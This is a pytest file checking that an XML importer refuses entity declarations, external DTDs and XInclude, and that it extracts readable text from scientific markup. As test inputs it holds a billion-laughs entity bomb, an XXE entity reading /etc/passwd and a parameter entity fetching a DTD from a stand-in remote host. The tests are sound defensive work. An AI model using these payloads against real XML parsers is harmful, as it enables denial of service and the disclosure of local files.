"""XML attacks are refused, and text of elements reads as a person would read it."""

from pathlib import Path

import pytest
from lxml import etree

from corpus.errors import ImportRefusedError
from corpus.importers.xmltext import cut_records, parse_xml, text_of

PATH = Path("x.xml")

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol4;</lolz>"""
EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE a PUBLIC "-//NLM//DTD x//EN" "x.dtd" [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<a>&xxe;</a>"""
PARAMETER = b"""<!DOCTYPE a [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]><a/>"""
HIDDEN_SUBSET = b"""<!DOCTYPE a SYSTEM "a>b" [<!ENTITY x "y">]><a>&x;</a>"""
HIDDEN_BY_COMMENT = b"<!-- <!DOCTYPE a> -->" + BILLION_LAUGHS.partition(b"?>")[2].strip()
ATTRIBUTE = b"""<!DOCTYPE a [<!ENTITY x "y">]><a b="&x;"/>"""


@pytest.mark.parametrize(
    "attack",
    [
        BILLION_LAUGHS,
        EXTERNAL,
        PARAMETER,
        HIDDEN_SUBSET,
        HIDDEN_BY_COMMENT,
        ATTRIBUTE,
        BILLION_LAUGHS.partition(b"?>")[2].strip().decode().encode("utf-16"),
    ],
)
def test_declared_entities_are_refused(attack: bytes) -> None:
    """A document type that declares entities is refused, whatever the encoding, and nothing is expanded."""
    with pytest.raises(ImportRefusedError, match="DOCTYPE declares entities"):
        parse_xml(attack, PATH)


def test_an_external_dtd_is_not_fetched(tmp_path: Path) -> None:
    """A DTD that the document names is neither read nor needed, and its entities stay unknown."""
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY secret "leaked"><!ATTLIST a added CDATA "leaked">')
    root = parse_xml(f'<!DOCTYPE a SYSTEM "{dtd}"><a>x &secret; y</a>'.encode(), PATH)
    assert text_of(root) == "x &secret; y"
    assert root.attrib == {}


def test_xinclude_is_not_followed(tmp_path: Path) -> None:
    """An XInclude element stays an element."""
    (tmp_path / "secret").write_text("leaked")
    include = f'<xi:include href="{tmp_path}/secret" parse="text"/>'
    xml = f'<a xmlns:xi="http://www.w3.org/2001/XInclude">{include}</a>'
    assert text_of(parse_xml(xml.encode(), PATH)) == ""


def test_deep_nesting_is_an_error_not_a_crash() -> None:
    """A document nested beyond all sense is a syntax error."""
    with pytest.raises(etree.XMLSyntaxError):
        parse_xml(b"<a>" * 100_000 + b"</a>" * 100_000, PATH)


@pytest.mark.parametrize(
    ("xml", "text"),
    [
        ("<p>at 10<sup>8</sup> cells/m<sup>2</sup></p>", "at 10^8 cells/m^2"),
        ("<p>km·h<sup>-1</sup>; (a)<sup>2</sup></p>", "km·h^-1; (a)^2"),
        (
            "<p>mc<sup>2</sup>7000, <sup>13</sup>C, CD4<sup>+</sup>, 1<sup>st</sup></p>",
            "mc^(2)7000, 13C, CD4+, 1st",
        ),
        ("<p>CO<sub>2</sub> and T<sub>max</sub></p>", "CO2 and Tmax"),
        ("<p>a <i>b</i>\n   c<!-- hidden --><?pi x?> d&amp;e</p>", "a b c d&e"),
        ("<p>end<xref ref-type='bibr'><sup>3</sup></xref>, <sup><xref>4</xref></sup>next</p>", "end, next"),
        ("<p>as in <xref ref-type='bibr'>Smith 2010</xref></p>", "as in Smith 2010"),
        ("<p>one<break/>two</p>", "one two"),
    ],
)
def test_text_is_readable(xml: str, text: str) -> None:
    """Powers get a caret, indices do not, reference marks and comments go, words stay."""
    assert text_of(etree.fromstring(xml)) == text


def test_formulas_are_read_and_said() -> None:
    """A formula comes out in reading order and a remark says that it was flattened."""
    remarks: list[str] = []
    math = """<p>in <m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:mmultiscripts><m:mi>He</m:mi>
      <m:mprescripts/><m:none/><m:mn>3</m:mn></m:mmultiscripts><m:mtext> </m:mtext><m:mi>MRI</m:mi>
      <m:msup><m:mi>x</m:mi><m:mn>2</m:mn></m:msup>
      <m:mfrac><m:mn>1</m:mn><m:mn>2</m:mn></m:mfrac></m:math> gas</p>"""
    assert text_of(etree.fromstring(math), remarks.append) == "in 3He MRIx^21/2 gas"
    assert "formula" in remarks[0]
    text_of(etree.fromstring("<p>a <inline-graphic/> b</p>"), remarks.append)
    assert "image" in remarks[1]


def _cut(xml: bytes) -> list[str]:
    with pytest.raises(etree.XMLSyntaxError) as caught:
        parse_xml(xml, PATH)
    found = cut_records(xml, PATH, "R", caught.value)
    return [str(item) if isinstance(item, ImportRefusedError) else text_of(item) for item in found]


def test_records_of_a_damaged_document_are_cut_out() -> None:
    """Whole records are read; a damaged and a cut one are said to be so, after the document itself."""
    xml = b"<?xml version='1.0' encoding='UTF-8'?><S><R a='1'>x</R><R><b></R><R>\xc3\xbc</R><R>cut"
    assert _cut(xml) == [
        "x.xml: is damaged XML (line 1: Opening and ending tag mismatch: b line 1 and R); "
        "2 whole records were read",
        "x",
        "x.xml: record 2: is not well-formed XML (Opening and ending tag mismatch: b line 1 and R)",
        "ü",
        "x.xml: record 4: breaks off before its end",
    ]


def test_a_document_without_a_whole_record_is_one_line() -> None:
    """Where nothing can be saved, one line says so."""
    for xml in (b"<S><R>cut", b"no XML", b"<S>"):
        (line,) = _cut(xml)
        assert line.endswith("no whole record could be read; get the file again")
